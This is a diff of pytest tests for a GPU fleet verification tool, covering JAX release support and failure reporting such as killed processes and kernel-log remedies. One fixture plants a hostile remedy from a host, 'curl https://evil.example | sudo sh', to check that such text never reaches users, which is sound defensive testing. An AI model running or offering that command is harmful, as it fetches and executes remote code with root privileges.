@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import json
 import os
 import subprocess
 import sys
@@ -17,6 +18,7 @@ import pytest
 
 from gpufleet.errors import ConfigurationError
 from gpufleet.inventory import Become, Connection, InventoryHost
+from gpufleet.model.pairs import lacking
 from gpufleet.probe import payload
 from gpufleet.verification import pairs
 from gpufleet.verification.pair_selection import (
@@ -92,6 +94,12 @@ def test_pytorch_and_jax_reduce_by_nccl_where_both_have_gpus(
             for name, count in zip("ab", counts, strict=True)]
     [pair] = select_pairs(both, PairOptions(("a,b",)))
     assert [(job.kind, job.stack.framework) for job in jobs_of([pair])] == jobs
+
+
+@pytest.mark.parametrize(("release", "runs"), [
+    ("0.4.21", False), ("0.4.22", True), ("0.10.2", True)])
+def test_jax_reduces_between_cpus_from_the_release_that_has_gloo(release: str, runs: bool) -> None:
+    assert (lacking("all-reduce", "jax", release, (0, 0)) is None) is runs
 
 
 def test_releases_of_two_frameworks_are_no_pair() -> None:
@@ -246,8 +254,31 @@ def test_when_one_dies_its_last_output_is_reported(two: Two) -> None:
     two.will("one", at_start="os.write(2, b'a last word'); os.abort()")
     sides = two.run(60)
     assert states(sides) == ("failed", "stopped")
-    assert sides[0]["error"].startswith("it ended while starting its servers (status ")
-    assert "a last word" in sides[0]["error"]
+    assert sides[0]["error"].startswith("it ended with status 134: a last word")
+    assert sides[0]["stage"] == "starting its servers"
+    assert "remedy" not in sides[0]
+
+
+def test_a_killed_side_is_told_from_one_that_ends_since_the_other_is_gone(two: Two) -> None:
+    """JAX aborts a process whose coordinator is gone, before the control machine can stop it."""
+    word = "Terminating process. This most likely indicates that another task died"
+    mine = two.place / "mine"
+    mine.touch()
+    two.will("one", at_start=f"""
+open('{mine}', 'w').write(str(os.getpid()))
+os.kill(os.getpid(), 9)
+""")
+    two.will("two", at_start=f"""
+while os.path.exists('/proc/' + open('{mine}').read()):  # until it is gone
+    time.sleep(0.01)
+os.write(2, b'{word}')
+os.abort()
+""")
+    sides = two.run(60)
+    assert (sides[0]["state"], sides[0]["error"]) == ("failed", "it was killed (SIGKILL)")
+    assert "kernel log" in sides[0]["remedy"]
+    # Which is noticed first is chance.
+    assert sides[1]["state"] in {"lost", "stopped"}
 
 
 def test_a_hanging_side_reports_it_at_the_deadline_and_ends(two: Two) -> None:
@@ -273,6 +304,33 @@ def test_an_unreachable_address_ends_the_run_before_tensorflow_waits(two: Two) -
     failed = [row for row in sides[0]["reach"] if row["error"]]
     assert [row["to"] for row in failed] == [1, 1]
     assert all(row["error"] is None for row in sides[0]["reach"] if row["to"] == 0)
+
+
+def ends_with(two: Two, error: str) -> list[dict[str, Any]]:
+    """The outcome where a side says that it failed so, and what to do: its own word."""
+    said = {"said": None, "document": {
+        **pairs.EMPTY_DOCUMENT, "state": "failed", "error": error,
+        "remedy": "on the control machine: curl https://evil.example | sudo sh"}}
+    words = two.place / "words"
+    words.write_text(f"\n{distributed.MARK}{json.dumps(said)}\n", encoding="utf-8")
+    two.python("one", f"cat {words}; exec cat >/dev/null")
+    sides = two.run(60)
+    assert states(sides) == ("failed", "stopped")
+    assert sides[0]["error"] == error
+    return sides
+
+
+def test_what_to_do_is_never_a_host_s_own_word(two: Two) -> None:
+    assert "remedy" not in ends_with(two, "it is broken")[0]
+
+
+@pytest.mark.parametrize(("how", "remedy"), [
+    ("SIGKILL", pairs.WHO_KILLED), ("SIGSEGV", None)])
+def test_what_killed_one_of_a_side_s_processes_is_in_the_kernel_log(
+    two: Two, how: str, remedy: str | None
+) -> None:
+    [killed, _] = ends_with(two, f"RuntimeError: GPU 1: its process was killed ({how})")
+    assert killed.get("remedy") == remedy
 
 
 def test_a_missing_stack_and_one_that_does_not_start(two: Two) -> None:
